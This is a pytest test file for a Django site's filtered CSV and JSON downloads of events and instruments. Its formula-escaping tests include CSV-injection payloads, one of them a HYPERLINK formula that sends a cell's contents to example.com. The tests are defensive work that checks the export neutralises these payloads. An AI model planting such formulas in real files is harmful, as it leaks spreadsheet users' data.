"""CSV and JSON downloads of the events and instruments lists, exactly as they are filtered."""

import csv
import datetime
import io
import itertools
import json

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from pytest_django.asserts import assertContains, assertNotContains

from events.exports import EventExportView
from events.models import DatePrecision, EventFormat, Role
from instruments.exports import InstrumentExportView
from instruments.models import Access, InstrumentKind
from publishing.models import PublicationStatus
from tests.factories import built_once, make_article, make_body, make_event, make_instrument, make_series, make_topic

pytestmark = pytest.mark.django_db

BOM = b"\xef\xbb\xbf"
EVENT_COLUMNS = (
    "url,slug,title,start_date,end_date,date_precision,dates,status,time_state,city,country_code,country,format,"
    "wco_role,series,session_number,convening_bodies,topics,uncac_articles,instruments,summary,documents"
)
INSTRUMENT_COLUMNS = (
    "url,slug,title,short_name,kind,issuing_body,year_adopted,year_revised,uncac_articles,topics,access,"
    "platform,link,description,documents"
)
HIDDEN_STATES = {
    "draft": {"publication_status": PublicationStatus.DRAFT},
    "in-review": {"publication_status": PublicationStatus.IN_REVIEW},
    "scheduled": {
        "publication_status": PublicationStatus.PUBLISHED,
        "publish_at": timezone.now() + datetime.timedelta(days=30),
    },
}


def download(client, url, params=None):
    """The response and the whole file it streams."""
    response = client.get(url, params or {})
    assert response.status_code == 200, url
    return response, b"".join(response.streaming_content)


def csv_rows(client, url, params=None):
    """The file's rows as dicts by column, after checking that it starts with the byte order mark."""
    _response, body = download(client, url, params)
    assert body.startswith(BOM)
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def json_records(client, url, params=None):
    _response, body = download(client, url, params)
    return json.loads(body.decode("utf-8"))


def listed_slugs(client, url, params):
    """The slugs that the list page shows for these filters, page after page."""
    slugs, page = [], 1
    while True:
        response = client.get(url, {**params, "page": page})
        slugs += [record.slug for record in response.context["object_list"]]
        if not response.context["page_obj"].has_next():
            return slugs
        page += 1


def build_unodc():
    """UNODC with a subsidiary body, 25 events of 2019 that they convened, and decoys around them."""
    unodc = make_body("United Nations Office on Drugs and Crime", short_name="UNODC", slug="unodc")
    irg = make_body("Implementation Review Group", short_name="IRG", slug="irg", parent=unodc)
    other = make_body("Integrity Sub-Committee", slug="isc")
    for day in range(1, 26):
        make_event(
            f"Meeting on day {day}", slug=f"meeting-{day}", start=f"2019-03-{day:02}", bodies=[[unodc, irg][day % 2]]
        )
    make_event("Meeting of another year", slug="decoy-2018", start="2018-03-01", bodies=[unodc])
    make_event("Meeting of another body", slug="decoy-isc", start="2019-03-10", bodies=[other])
    for state, fields in HIDDEN_STATES.items():
        make_event(f"Hidden {state} meeting", slug=f"hidden-{state}", start="2019-03-15", bodies=[unodc], **fields)
    return unodc


unodc = built_once(build_unodc, scope="class")


class TestUnodcEvents:
    """On the events of `build_unodc`, built once for the class: its tests only read them."""

    def test_the_events_files_hold_every_page_of_the_filtered_list_in_its_order(self, client, unodc):
        filters = {"year": "2019", "body": "unodc"}
        shown = listed_slugs(client, "/en/events/", filters)

        assert len(shown) == 25
        assert [row["slug"] for row in csv_rows(client, "/en/events/export.csv", filters)] == shown
        assert [record["slug"] for record in json_records(client, "/en/events/export.json", filters)] == shown

    def test_an_unfiltered_file_holds_every_published_record(self, client, unodc):
        rows = csv_rows(client, "/en/events/export.csv")

        assert len(rows) == 27
        assert not [row for row in rows if row["slug"].startswith("hidden")]

    def test_the_lists_offer_the_download_of_exactly_what_they_show(self, client, unodc):
        response = client.get("/en/events/", {"year": "2019", "body": "unodc", "country": "", "page": "2"})

        assertContains(response, "Download these 25 events as")
        assertContains(response, 'href="/en/events/export.csv?body=unodc&amp;year=2019"')
        assertContains(response, 'href="/en/events/export.json?body=unodc&amp;year=2019"')
        # That the file holds these 25 events: test_the_events_files_hold_every_page_of_the_filtered_list_in_its_order.


def test_the_instruments_files_hold_every_page_of_the_filtered_list_in_its_order(client):
    wco = make_body("World Customs Organization", slug="wco")
    for number in range(1, 24):
        make_instrument(f"Guide {number:02}", slug=f"guide-{number}", year_adopted=2019, issuing_body=wco)
    make_instrument("Guide of another year", slug="decoy-year", year_adopted=2018, issuing_body=wco)
    make_instrument("A declaration", slug="decoy-kind", kind=InstrumentKind.DECLARATION, year_adopted=2019)
    for state, fields in HIDDEN_STATES.items():
        make_instrument(f"Hidden {state} guide", slug=f"hidden-{state}", year_adopted=2019, **fields)
    filters = {"year": "2019", "kind": "guide"}
    shown = listed_slugs(client, "/en/instruments/", filters)

    assert len(shown) == 23
    assert [row["slug"] for row in csv_rows(client, "/en/instruments/export.csv", filters)] == shown
    assert [record["slug"] for record in json_records(client, "/en/instruments/export.json", filters)] == shown


def test_records_that_are_not_public_are_never_exported(client):
    body = make_body()
    for state, fields in HIDDEN_STATES.items():
        instrument = make_instrument(f"Zanzibar {state} guide", slug=f"zanzibar-{state}", **fields)
        make_event(f"Zanzibar {state} meeting", slug=f"zanzibar-meeting-{state}", bodies=[body], **fields)
        make_event("Public meeting with a hidden instrument", bodies=[body], instruments=[instrument])
    make_instrument("Public guide")

    for language, extension, kind in itertools.product(["en", "fr"], ["csv", "json"], ["events", "instruments"]):
        _response, content = download(client, f"/{language}/{kind}/export.{extension}")
        assert b"Public" in content, (language, extension, kind)
        assert b"zanzibar" not in content.lower(), (language, extension, kind)


def test_the_csv_file_opens_in_excel(client):
    make_event("Réunion à Genève", start="2019-05-27")

    response, body = download(client, "/en/events/export.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert body.startswith(BOM + EVENT_COLUMNS.encode() + b"\r\n")
    assert body.endswith(b"\r\n")
    assert "Réunion à Genève".encode() in body
    assert response["Content-Disposition"] == 'attachment; filename="wco-integrity-events.csv"'


def test_the_instruments_csv_starts_with_its_columns(client):
    make_instrument("Revised Arusha Declaration")

    response, body = download(client, "/en/instruments/export.csv")

    assert body.startswith(BOM + INSTRUMENT_COLUMNS.encode() + b"\r\n")
    assert response["Content-Disposition"] == 'attachment; filename="wco-integrity-instruments.csv"'


def test_the_json_file_is_an_array_with_the_same_keys(client):
    make_event("Réunion à Genève", start="2019-05-27")
    make_instrument("Revised Arusha Declaration")

    events_response, events = download(client, "/en/events/export.json")
    _response, instruments = download(client, "/en/instruments/export.json")

    assert events_response["Content-Type"] == "application/json"
    assert events_response["Content-Disposition"] == 'attachment; filename="wco-integrity-events.json"'
    assert "Réunion à Genève".encode() in events
    assert [list(record) for record in json.loads(events)] == [EVENT_COLUMNS.split(",")]
    assert [list(record) for record in json.loads(instruments)] == [INSTRUMENT_COLUMNS.split(",")]


def test_an_export_that_matches_nothing_is_an_empty_file_with_its_columns(client):
    make_event(start="2019-05-27")

    assert csv_rows(client, "/en/events/export.csv", {"year": "2001"}) == []
    assert json_records(client, "/en/events/export.json", {"year": "2001"}) == []
    _response, body = download(client, "/en/events/export.csv", {"year": "2001"})
    assert body == BOM + EVENT_COLUMNS.encode() + b"\r\n"


FILE_NAMES = [
    ("/en/events/export.csv", {}, "wco-integrity-events.csv"),
    (
        "/en/events/export.csv",
        {"year": "2019", "body": "unodc", "page": "2"},
        "wco-integrity-events-2019-unodc.csv",
    ),
    (
        "/en/events/export.json",
        {"body": "unodc", "year": "2019", "topic": ""},
        "wco-integrity-events-2019-unodc.json",
    ),
    ("/en/events/export.csv", {"article": "5", "country": "AT"}, "wco-integrity-events-at-article-5.csv"),
    ("/fr/events/export.csv", {"year": "2019"}, "wco-integrity-events-2019-fr.csv"),
    ("/en/instruments/export.json", {"kind": "e_learning"}, "wco-integrity-instruments-e-learning.json"),
]


def test_the_file_name_says_what_it_holds(client):
    unodc = make_body(slug="unodc")
    make_event(start="2019-05-27", bodies=[unodc], country="AT", uncac_articles=[make_article(5)])

    for url, params, filename in FILE_NAMES:
        response, _body = download(client, url, params)
        disposition = response["Content-Disposition"]
        assert disposition == f'attachment; filename="{filename}"', f"{url} {params}: {disposition}"


def test_search_engines_are_kept_to_the_lists(client):
    make_event(start="2019-05-27")

    response, _body = download(client, "/en/events/export.json")

    assert response["X-Robots-Tag"] == "noindex"
    assertContains(client.get("/en/events/"), 'rel="nofollow" type="text/csv"')


def test_several_values_share_a_cell_in_csv_and_are_arrays_in_json(client):
    unodc = make_body("United Nations Office on Drugs and Crime", short_name="UNODC", slug="unodc")
    wco = make_body("World Customs Organization", short_name="WCO", slug="wco")
    guide = make_instrument("Integrity guide", slug="integrity-guide")
    make_event(
        "Joint meeting",
        slug="joint",
        start="2019-05-27",
        end="2019-05-29",
        city="Vienna",
        country="AT",
        format=EventFormat.HYBRID,
        wco_role=Role.PRESENTER,
        series=make_series(unodc, name="Joint meetings"),
        session_number=3,
        bodies=[unodc, wco],
        topics=[make_topic("Risk management"), make_topic("Codes of conduct")],
        uncac_articles=[make_article(5), make_article(36)],
        instruments=[guide],
        summary="Two bodies, one meeting.",
    )

    [row] = csv_rows(client, "/en/events/export.csv")
    [record] = json_records(client, "/en/events/export.json")

    assert row == {
        "url": "http://testserver/en/events/joint/",
        "slug": "joint",
        "title": "Joint meeting",
        "start_date": "2019-05-27",
        "end_date": "2019-05-29",
        "date_precision": "day",
        "dates": "27–29 May 2019",
        "status": "scheduled",
        "time_state": "past",
        "city": "Vienna",
        "country_code": "AT",
        "country": "Austria",
        "format": "Hybrid",
        "wco_role": "Presenter",
        "series": "Joint meetings",
        "session_number": "3",
        "convening_bodies": "United Nations Office on Drugs and Crime (UNODC); World Customs Organization (WCO)",
        "topics": "Codes of conduct; Risk management",
        "uncac_articles": "5; 36",
        "instruments": "Integrity guide",
        "summary": "Two bodies, one meeting.",
        "documents": "",
    }
    assert record["convening_bodies"] == [
        "United Nations Office on Drugs and Crime (UNODC)",
        "World Customs Organization (WCO)",
    ]
    assert record["topics"] == ["Codes of conduct", "Risk management"]
    assert record["uncac_articles"] == [5, 36]
    assert record["session_number"] == 3


def test_an_instrument_row_has_its_page_and_its_own_address(client):
    wco = make_body("World Customs Organization", short_name="WCO")
    make_instrument(
        "Revised Arusha Declaration",
        slug="arusha",
        short_name="Arusha",
        kind=InstrumentKind.DECLARATION,
        issuing_body=wco,
        year_adopted=1993,
        year_revised=2003,
        uncac_articles=[make_article(7)],
        topics=[make_topic("Leadership")],
        access=Access.PUBLIC,
        platform="WCO website",
        url="https://www.wcoomd.org/arusha",
        description="Twelve key factors.",
    )
    make_instrument("A guide with no year", slug="no-year")

    rows = csv_rows(client, "/en/instruments/export.csv")
    records = json_records(client, "/en/instruments/export.json")

    assert rows[0] == {
        "url": "http://testserver/en/instruments/no-year/",
        "slug": "no-year",
        "title": "A guide with no year",
        "short_name": "",
        "kind": "Guide",
        "issuing_body": "",
        "year_adopted": "",
        "year_revised": "",
        "uncac_articles": "",
        "topics": "",
        "access": "",
        "platform": "",
        "link": "",
        "description": "",
        "documents": "",
    }
    assert rows[1]["url"] == "http://testserver/en/instruments/arusha/"
    assert rows[1]["link"] == "https://www.wcoomd.org/arusha"
    assert (rows[1]["kind"], rows[1]["issuing_body"], rows[1]["access"]) == (
        "Declaration",
        "World Customs Organization (WCO)",
        "Public",
    )
    assert (rows[1]["year_adopted"], rows[1]["year_revised"]) == ("1993", "2003")
    assert (records[0]["issuing_body"], records[0]["year_adopted"], records[0]["uncac_articles"]) == (None, None, [])
    assert (records[1]["year_adopted"], records[1]["uncac_articles"]) == (1993, [7])


FORMULAS = ['=HYPERLINK("https://example.com/?leak="&A1,"Click")', "-2+3", "@SUM(1)", "+1", "\tTAB", "\rCR"]


def build_formulas():
    for number, title in enumerate(FORMULAS):
        make_event(title, slug=f"formula-{number}", start=f"2019-05-{number + 1:02}", city="=1+1", summary="@me")


formulas = built_once(build_formulas, scope="class")


class TestFormulas:
    """On events whose titles, cities and summaries start as formulas, built once for the class."""

    def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_text(self, client, formulas):
        rows = csv_rows(client, "/en/events/export.csv")

        assert sorted(row["title"] for row in rows) == sorted(f"'{title}" for title in FORMULAS)
        assert {(row["city"], row["summary"]) for row in rows} == {("'=1+1", "'@me")}

    def test_json_values_are_left_as_they_are(self, client, formulas):
        records = json_records(client, "/en/events/export.json")

        assert sorted(record["title"] for record in records) == sorted(FORMULAS)


def test_no_ordinary_value_is_altered_in_csv(client):
    """Dates, years, numbers and addresses never start with a formula character: each CSV cell is its JSON value."""
    wco = make_body("World Customs Organization", short_name="WCO")
    make_event(
        "An ordinary session",
        start="1999-12-30",
        end="2000-01-02",
        date_precision=DatePrecision.DAY,
        city="Brussels",
        country="BE",
        series=make_series(wco),
        session_number=1,
        bodies=[wco],
        uncac_articles=[make_article(5)],
    )
    make_event("A year only", start="2016-06-01", date_precision=DatePrecision.YEAR, bodies=[wco])
    make_instrument("Revised Arusha Declaration", issuing_body=wco, year_adopted=1993, url="https://www.wcoomd.org/")

    for kind in ["events", "instruments"]:
        rows = csv_rows(client, f"/en/{kind}/export.csv")
        records = json_records(client, f"/en/{kind}/export.json")
        as_text = [
            {
                name: "; ".join(map(str, value)) if isinstance(value, list) else "" if value is None else str(value)
                for name, value in record.items()
            }
            for record in records
        ]
        assert rows == as_text
        assert not [value for row in rows for value in row.values() if value.startswith("'")]


INVALID_FILTERS = [
    ("year=abc", "year"),
    ("year=2019&year=20200", "year"),
    ("q=a&q=b", "q"),
    ("body=no-such-body", "body"),
    ("topic=%00", "topic"),
    ("article=9999", "article"),
]


def test_invalid_filters_export_nothing_and_say_why(client):
    make_event(start="2019-05-27", topics=[make_topic()])
    make_instrument(year_adopted=2019)

    for kind, (query, field) in itertools.product(["events", "instruments"], INVALID_FILTERS):
        case = f"{kind}?{query}"
        as_csv = client.get(f"/en/{kind}/export.csv?{query}")
        as_json = client.get(f"/en/{kind}/export.json?{query}")

        assert as_csv.status_code == as_json.status_code == 400, case
        assert as_csv["Content-Type"] == "text/plain; charset=utf-8", case
        assert "Content-Disposition" not in as_csv and "Content-Disposition" not in as_json, case
        assert "not valid" in as_csv.content.decode(), case
        assert f"\n{field}: " in as_csv.content.decode(), case
        assert as_json["Content-Type"] == "application/json", case
        assert list(json.loads(as_json.content)["filters"]) == [field], case


def test_parameters_that_are_not_filters_are_ignored_as_on_the_list(client):
    make_event(start="2019-05-27")

    assert len(csv_rows(client, "/en/events/export.csv", {"page": "7", "utm_source": "newsletter"})) == 1


def test_the_french_file_has_french_texts_and_english_columns(client):
    wco = make_body("World Customs Organization", name_fr="Organisation mondiale des douanes", slug="wco")
    make_event(
        "Integrity session",
        title_fr="Session sur l'éthique",
        slug="translated",
        start="2022-09-05",
        end="2022-09-08",
        city="Brussels",
        city_fr="Bruxelles",
        country="BE",
        format=EventFormat.IN_PERSON,
        wco_role=Role.ORGANISER,
        bodies=[wco],
    )
    make_event("Only in English", slug="untranslated", start="2021-01-01", bodies=[wco])
    make_instrument("Revised Arusha Declaration", title_fr="Déclaration d'Arusha révisée", kind="declaration")

    response, body = download(client, "/fr/events/export.csv")
    rows = {row["slug"]: row for row in csv_rows(client, "/fr/events/export.csv")}
    records = {record["slug"]: record for record in json_records(client, "/fr/events/export.json")}
    [instrument] = json_records(client, "/fr/instruments/export.json")

    assert body.startswith(BOM + EVENT_COLUMNS.encode() + b"\r\n")
    assert response["Content-Disposition"] == 'attachment; filename="wco-integrity-events-fr.csv"'
    assert rows["translated"]["url"] == "http://testserver/fr/events/translated/"
    assert (rows["translated"]["title"], rows["translated"]["city"]) == ("Session sur l'éthique", "Bruxelles")
    assert rows["translated"]["dates"] == "5–8 septembre 2022"
    assert (rows["translated"]["country"], rows["translated"]["country_code"]) == ("Belgique", "BE")
    assert (rows["translated"]["format"], rows["translated"]["wco_role"]) == ("En présentiel", "Organisateur")
    assert rows["translated"]["convening_bodies"] == "Organisation mondiale des douanes"
    assert rows["untranslated"]["title"] == "Only in English"
    assert records["translated"]["title"] == "Session sur l'éthique"
    assert list(records["translated"]) == EVENT_COLUMNS.split(",")
    assert (instrument["title"], instrument["kind"]) == ("Déclaration d'Arusha révisée", "Déclaration")


def test_an_unfiltered_list_links_to_the_whole_file(client):
    make_instrument("Revised Arusha Declaration")

    response = client.get("/fr/instruments/")

    assertContains(response, 'href="/fr/instruments/export.csv"')
    assertContains(response, 'href="/fr/instruments/export.json"')


def test_a_single_result_is_offered_as_one_record(client):
    make_instrument("Revised Arusha Declaration", year_adopted=2003)

    assertContains(client.get("/en/instruments/", {"year": "2003"}), "Download this instrument as")


def test_no_download_is_offered_without_results(client):
    make_event(start="2019-05-27")

    for query in ["year=abc", "year=1990"]:
        response = client.get(f"/en/events/?{query}")

        assertNotContains(response, "export.csv", status_code=response.status_code, msg_prefix=query)
        assertNotContains(response, "Download", status_code=response.status_code, msg_prefix=query)


class Growing:
    """Events of 2019 that each link to bodies, topics, UNCAC articles and instruments, added on demand."""

    def __init__(self):
        self.body = make_body(slug="main")
        self.topic = make_topic()
        self.article = make_article()
        self.instrument = make_instrument(topics=[self.topic], uncac_articles=[self.article])
        self.size = 0

    def grow_to(self, size):
        while self.size < size:
            self.size += 1
            make_event(
                start=datetime.date(2019, 1, 1) + datetime.timedelta(days=self.size),
                bodies=[self.body, make_body(parent=self.body)],
                series=make_series(self.body),
                topics=[self.topic, make_topic()],
                uncac_articles=[self.article, make_article()],
                instruments=[self.instrument, make_instrument()],
            )
            make_instrument(
                year_adopted=2019, issuing_body=self.body, topics=[make_topic()], uncac_articles=[self.article]
            )


def count_queries(client, url):
    """Queries run to answer and write out the whole file."""
    with CaptureQueriesContext(connection) as queries:
        download(client, url)
    return len(queries)


EXPORTS = [
    "/en/events/export.csv?year=2019&body=main",
    "/fr/events/export.json?year=2019",
    "/en/instruments/export.csv?year=2019",
    "/fr/instruments/export.json?body=main",
]


def test_an_export_streams_its_file_in_chunks_and_its_queries_grow_with_the_chunks_not_the_records(
    client, monkeypatch
):
    """
    On one catalogue grown from 1 to 5 events and instruments: each file, read in its usual
    chunks, runs as many queries with 2 records as with 5; read 2 records a chunk, its queries
    grow by the same step with each new chunk and not with the records, and the file is streamed
    chunk by chunk.
    """
    chunked = {EventExportView: "/en/events/export.csv", InstrumentExportView: "/en/instruments/export.json?year=2019"}
    catalogue = Growing()
    counts = {view: [] for view in chunked}
    whole = {}
    for size in [1, 2, 3, 4, 5]:
        catalogue.grow_to(size)
        with monkeypatch.context() as patch:
            for view, url in chunked.items():
                patch.setattr(view, "chunk_size", 2)
                counts[view].append(count_queries(client, url))
            if size == 5:
                response = client.get("/en/events/export.csv")
                pieces = list(response.streaming_content)
        if size in (2, 5):
            whole[size] = {url: count_queries(client, url) for url in EXPORTS}

    assert whole[5] == whole[2]
    for view, (one_chunk, _, two_chunks, _, three_chunks) in counts.items():
        assert counts[view] == [one_chunk, one_chunk, two_chunks, two_chunks, three_chunks], view.__name__
        assert three_chunks - two_chunks == two_chunks - one_chunk > 0, view.__name__
    assert isinstance(response, StreamingHttpResponse)
    assert pieces[0] == BOM + EVENT_COLUMNS.encode() + b"\r\n"
    assert [piece.count(b"\r\n") for piece in pieces[1:] if piece] == [2, 2, 1]
